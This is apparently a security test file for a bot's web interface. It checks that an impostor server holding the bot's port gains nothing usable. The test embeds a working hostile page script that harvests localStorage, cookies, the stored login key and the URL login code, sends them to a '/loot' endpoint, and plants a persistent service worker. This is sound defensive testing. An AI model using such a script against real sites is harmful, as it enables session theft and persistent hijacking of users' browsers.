import { once } from 'node:events';
import { createServer, type IncomingHttpHeaders, request, type Server } from 'node:http';
import { text } from 'node:stream/consumers';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRecordedHome, startTestBot } from '../bot.ts';
import { launchBrowser } from '../browser.ts';
import { eventually, temporaryFolder } from '../helpers.ts';
import { createWebClient } from '../web-client.ts';

interface Recorded {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/** Takes all that the browser keeps for this address, signs what it can with it, and sends it home. */
const PAGE = `<!doctype html><title>chat</title><script type="module">
const loot = { hash: location.hash, local: { ...localStorage }, cookies: document.cookie, signed: [] };
const asked = (wanted) => new Promise((resolve, reject) => {
  wanted.onsuccess = () => resolve(wanted.result);
  wanted.onerror = () => reject(wanted.error);
});
const database = await asked(indexedDB.open('xaxbot'));
const store = database.objectStoreNames[0];
const login = await asked(database.transaction(store).objectStore(store).get(store));
loot.login = login?.id ?? null;
for (const format of ['jwk', 'pkcs8', 'raw'])
  loot[format] = login ? await crypto.subtle.exportKey(format, login.privateKey).then(() => 'taken', () => 'refused') : null;
await fetch('/loot', { method: 'POST', body: JSON.stringify(loot) });
if (location.hash) {
  await navigator.serviceWorker.register('/worker.js');
  await navigator.serviceWorker.ready;
}
await fetch('/settled', { method: 'POST' });
</script>`;
/** Goes on serving that page when the impostor has gone. */
const WORKER = `onfetch = (event) => event.request.mode === 'navigate' &&
  event.respondWith(new Response('<title>still here</title>', { headers: { 'content-type': 'text/html' } }));`;

/** The browser of somebody who comes by for the first time, and is given a page that stays valid for a year. */
const NEWCOMER = 'newcomer';

/** Whoever holds the port while the bot is down: answers everything, and keeps what it is sent. */
async function impostor(port: number): Promise<{ server: Server; recorded: Recorded[] }> {
  const recorded: Recorded[] = [];
  const server = createServer(async (asking, response) => {
    const { method = '', url = '', headers } = asking;
    recorded.push({ method, url, headers, body: await text(asking) });
    if (url.startsWith('/api/stream')) {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write('retry: 1000\n\n');
    } else if (url === '/worker.js') {
      response.writeHead(200, { 'content-type': 'text/javascript' });
      response.end(WORKER);
    } else if (headers['user-agent'] === NEWCOMER) {
      const type = url === '/' ? 'text/html' : 'text/javascript';
      response.writeHead(200, { 'content-type': type, 'cache-control': 'max-age=31536000, immutable' });
      response.end(url === '/' ? '<h1>his page</h1><script src="/page/app.js"></script>' : '');
    } else if (url.startsWith('/api/')) {
      response.writeHead(401, { 'content-type': 'application/json', 'xaxbot-challenge': 'mine' });
      response.end('{"error":{"code":"new-challenge","message":"no","hint":""}}');
    } else {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end(PAGE);
    }
  });
  server.listen(port, '127.0.0.1');
  await once(server, 'listening');
  return { server, recorded };
}

describe('somebody who takes the port while the bot is down', () => {
  const folder = temporaryFolder();
  const home = createRecordedHome(folder);
  const yaml = 'host: g1\npeople:\n  ada: {name: Ada, role: admin, unix: root}\n';
  const start = (port: string) =>
    startTestBot({ folder, home: home.home, yaml, env: { XAXBOT_WEB_PORT: port } });
  let bot: Awaited<ReturnType<typeof start>>;
  let browser: Browser;
  let page: Page;
  let newcomer: Page;
  let port: string;
  let recorded: Recorded[] = [];

  /** Sends again what was recorded, to where the bot is now; resolves to the status. */
  const replay = ({ method, url, headers, body }: Recorded, more: IncomingHttpHeaders = {}) =>
    new Promise<number>((resolve, reject) => {
      const given = Object.entries({ ...headers, ...more }).filter(([, value]) => value !== undefined);
      const again = request(new URL(url, bot.web!.url()), { method, headers: Object.fromEntries(given) });
      again.on('response', (response) => {
        response.destroy();
        resolve(response.statusCode!);
      });
      again.on('error', reject);
      again.end(body);
    });

  beforeAll(async () => {
    home.show('028.json');
    home.beat();
    bot = await start('0');
    ({ port } = new URL(bot.web!.url()));
    browser = await launchBrowser();
    page = await (await browser.newContext()).newPage();
    await page.goto(bot.web!.createLink('ada'));
    await page.getByRole('heading', { name: 'Queue g1' }).waitFor();
    newcomer = await (await browser.newContext({ userAgent: NEWCOMER })).newPage();
  });
  afterAll(async () => {
    await browser?.close();
    await bot?.app.stop();
  });

  it('is sent requests, a code and the use of a key, and no key', async () => {
    const unused = bot.web!.createLink('ada');
    await bot.app.stop();
    const taken = await impostor(Number(port));
    ({ recorded } = taken);
    await eventually('the open page asks it', () =>
      recorded.some(({ url }) => url.startsWith('/api/stream')),
    );
    await page.locator('.channel textarea').fill('/xax status');
    await page.keyboard.press('Enter');
    await eventually('the page says something to it', () => recorded.some(({ url }) => url === '/api/say'));
    await page.reload();
    await eventually('its own page runs', () => recorded.some(({ url }) => url === '/settled'));
    await page.goto('about:blank');
    await page.goto(unused);
    await eventually(
      'it has the code, and leaves a worker',
      () => recorded.filter(({ url }) => url === '/settled').length === 2,
    );
    const loot = recorded.filter(({ url }) => url === '/loot').map(({ body }) => JSON.parse(body));
    expect(loot[0]).toMatchObject({ cookies: '', jwk: 'refused', pkcs8: 'refused', raw: 'refused' });
    expect(loot[0].login).toMatch(/^[\w-]{43}$/);
    expect(loot[1].hash).toMatch(/^#enter=/);
    await newcomer.goto(`http://127.0.0.1:${port}/`);
    await newcomer.goto('about:blank');
    taken.server.closeAllConnections();
    await new Promise((resolve) => taken.server.close(resolve));
    await page.goto('about:blank');
  });

  it.for(['another port', 'the same port'])('gets nothing for it from the bot on %s', async (where) => {
    if (where === 'the same port') await bot.app.stop();
    bot = await start(where === 'the same port' ? port : '0');
    const signed = recorded.filter(({ headers }) => headers.authorization);
    expect(signed.length).toBeGreaterThan(2);
    const { host } = new URL(bot.web!.url());
    for (const each of signed) {
      expect(await replay(each), each.url).toBe(401);
      expect(await replay(each, { host, origin: undefined }), each.url).toBe(401);
      const bearer = { authorization: `Bearer ${/login=([\w-]+)/.exec(each.headers.authorization!)![1]}` };
      expect(await replay(each, bearer), each.url).toBe(401);
    }
    const codes = recorded
      .filter(({ url }) => url === '/loot')
      .map(({ body }) => String(JSON.parse(body).hash).replace('#enter=', ''))
      .filter((code) => code !== '');
    expect(codes).toHaveLength(1);
    const thief = createWebClient(bot.web!.url());
    for (const code of codes)
      expect((await thief.postTo('api/enter', { code, key: thief.key })).status).toBe(403);
  });

  it('has not signed anybody out, and the worker that he left is taken away', async () => {
    await page.goto(bot.web!.url());
    const heading = page.getByRole('heading', { name: 'Queue g1' });
    await heading.waitFor();
    expect(await heading.count()).toBe(1);
    const workers = () =>
      page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);
    await eventually('no worker', async () => (await workers()) === 0);
  });

  it('has what he left in the cache shown until the next link, by which nothing of it is used', async () => {
    const shownAt = async (url: string) => {
      await newcomer.goto('about:blank');
      await newcomer.goto(url);
      const heading = newcomer.getByRole('heading', { name: /^(his page|Queue g1)$/ }).first();
      return heading.textContent();
    };
    expect(await shownAt(bot.web!.url())).toBe('his page');
    expect(await shownAt(bot.web!.createLink('ada'))).toBe('Queue g1');
    expect(await shownAt(bot.web!.url())).toBe('Queue g1');
  });
});
